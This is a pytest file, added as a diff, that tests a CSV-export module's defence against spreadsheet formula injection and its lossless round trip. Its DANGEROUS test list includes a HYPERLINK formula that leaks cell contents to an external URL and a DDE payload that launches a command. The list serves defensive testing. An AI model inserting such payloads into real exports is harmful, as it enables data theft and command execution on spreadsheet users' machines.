@@ -1,0 +1,165 @@
+"""Formula-safe results CSV: dangerous cells guarded, safe cells untouched, a lossless round trip."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bulkprep.csvsafe import FORMULA_GUARD, is_formula, neutralize_formulas, write_results_csv
+from bulkprep.errors import ConfigurationError
+
+DANGEROUS = [
+    "=1+1",
+    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "+1+1",
+    "+442079460958",  # a spreadsheet would drop the plus and show 4.42079E+11
+    "+12.5",
+    "-1+1",
+    "-cmd",
+    "-",
+    "-1e5",
+    "- 12",
+    "\t=1+1",
+    "\r=1+1",
+    "\tleading tab",
+]
+SAFE = [
+    "ann@example.com",
+    "Ann",
+    "",
+    " =1+1",  # not at the very start: a spreadsheet shows it as text
+    "a=b",
+    "1+1",
+    "-12.5",
+    "-12",
+    "-0,5",
+    "-.5",
+    "12",
+    '{"a": "=1"}',
+    "Ünïcödé",
+]
+
+
+@pytest.mark.parametrize("cell", DANGEROUS)
+def test_dangerous_cells_are_guarded(cell: str) -> None:
+    assert is_formula(cell)
+    out = neutralize_formulas(pd.DataFrame({"c": [cell]}))
+    assert out.loc[0, "c"] == FORMULA_GUARD + cell
+
+
+@pytest.mark.parametrize("cell", SAFE)
+def test_safe_cells_are_untouched(cell: str) -> None:
+    assert not is_formula(cell)
+    assert neutralize_formulas(pd.DataFrame({"c": [cell]})).loc[0, "c"] == cell
+
+
+def test_headers_are_guarded_too() -> None:
+    out = neutralize_formulas(pd.DataFrame({"=evil()": [1], "name": [2], 3: [4]}))
+    assert list(out.columns) == ["'=evil()", "name", 3]
+
+
+def test_cells_that_are_not_text_are_untouched() -> None:
+    df = pd.DataFrame(
+        {
+            "int": [-5, 7],
+            "float": [-1.5, np.nan],
+            "nullable": pd.array([-3, None], dtype="Int64"),
+            "mixed": [{"a": "=x"}, -4],
+            "bools": [True, False],
+            "category": pd.Categorical(["=1", "a"]),
+            "none": [None, None],
+        }
+    )
+    out = neutralize_formulas(df)
+    pd.testing.assert_frame_equal(out.drop(columns="category"), df.drop(columns="category"))
+    assert out["category"].tolist() == ["'=1", "a"]
+
+
+def test_neutralize_never_mutates_its_input() -> None:
+    df = pd.DataFrame({"=c": ["=1", "ok"]})
+    before = df.copy()
+    neutralize_formulas(df)
+    pd.testing.assert_frame_equal(df, before)
+
+
+def read_back(path: Path) -> pd.DataFrame:
+    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+
+
+def test_round_trip_through_read_csv(tmp_path: Path) -> None:
+    cells = DANGEROUS + SAFE
+    df = pd.DataFrame(
+        {
+            "bulk_row": range(2, 2 + len(cells)),
+            "cell": cells,
+            "bulk_user": [{"profile": {"email": "a@example.com", "n": np.int64(3)}, "x": float("nan")}]
+            + [None] * (len(cells) - 1),
+            "tags": [["a", "=b"]] + [np.nan] * (len(cells) - 1),
+        }
+    )
+    before = df.copy()
+    path = write_results_csv(df, tmp_path / "results.csv")
+    assert path == tmp_path / "results.csv"
+    pd.testing.assert_frame_equal(df, before)  # input untouched
+
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # a byte order mark, so spreadsheets read UTF-8
+    back = read_back(path)
+    assert list(back.columns) == ["bulk_row", "cell", "bulk_user", "tags"]
+    expected = [FORMULA_GUARD + c if c in DANGEROUS else c for c in cells]
+    assert back["cell"].tolist() == expected
+    assert back["bulk_row"].tolist() == [str(i) for i in range(2, 2 + len(cells))]
+    assert json.loads(back.loc[0, "bulk_user"]) == {"profile": {"email": "a@example.com", "n": 3}}
+    assert back.loc[0, "bulk_user"] == '{"profile":{"email":"a@example.com","n":3}}'  # compact
+    assert json.loads(back.loc[0, "tags"]) == ["a", "=b"]
+    assert set(back["bulk_user"].iloc[1:]) == {""}  # missing values as empty cells
+    assert set(back["tags"].iloc[1:]) == {""}
+
+
+def test_named_index_is_written_unnamed_is_not(tmp_path: Path) -> None:
+    named = pd.DataFrame({"a": ["x"]}, index=pd.Index([7], name="bulk_row"))
+    assert list(read_back(write_results_csv(named, tmp_path / "n.csv")).columns) == ["bulk_row", "a"]
+    plain = pd.DataFrame({"a": ["x"]}, index=[7])
+    assert list(read_back(write_results_csv(plain, tmp_path / "p.csv")).columns) == ["a"]
+    both = pd.DataFrame({"bulk_row": [7], "a": ["x"]}, index=pd.Index([7], name="bulk_row"))
+    assert list(read_back(write_results_csv(both, tmp_path / "b.csv")).columns) == ["bulk_row", "a"]
+
+
+def test_other_encodings(tmp_path: Path) -> None:
+    df = pd.DataFrame({"name": ["Zoë"]})
+    path = write_results_csv(df, tmp_path / "latin.csv", encoding="latin-1")
+    assert path.read_bytes() == "name\r\nZoë\r\n".encode("latin-1")
+    with pytest.raises(ConfigurationError, match="utf-8-sig"):
+        write_results_csv(pd.DataFrame({"name": ["Łukasz"]}), tmp_path / "x.csv", encoding="latin-1")
+
+
+def test_unwritable_path_is_a_configuration_error(tmp_path: Path) -> None:
+    with pytest.raises(ConfigurationError, match="folder exists"):
+        write_results_csv(pd.DataFrame({"a": [1]}), tmp_path / "missing" / "results.csv")
+
+
+cell_text = st.text(
+    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "a", "1", ".", ",", " ", '"', "'", "é", ";"]),
+    max_size=6,
+)
+
+
+@settings(max_examples=50, deadline=None)
+@given(st.lists(st.one_of(cell_text, st.none()), min_size=1, max_size=6))
+def test_any_text_survives_the_round_trip(tmp_path_factory: pytest.TempPathFactory, cells: list[Any]) -> None:
+    # A second column: a line holding only blanks would be skipped by the reader as an empty line.
+    df = pd.DataFrame({"bulk_row": range(len(cells)), "c": cells})
+    back = read_back(write_results_csv(df, tmp_path_factory.mktemp("rt") / "r.csv"))["c"].tolist()
+    expected = ["" if c is None else (FORMULA_GUARD + c if is_formula(c) else c) for c in cells]
+    assert back == expected
+    for cell in back:
+        assert not is_formula(cell)
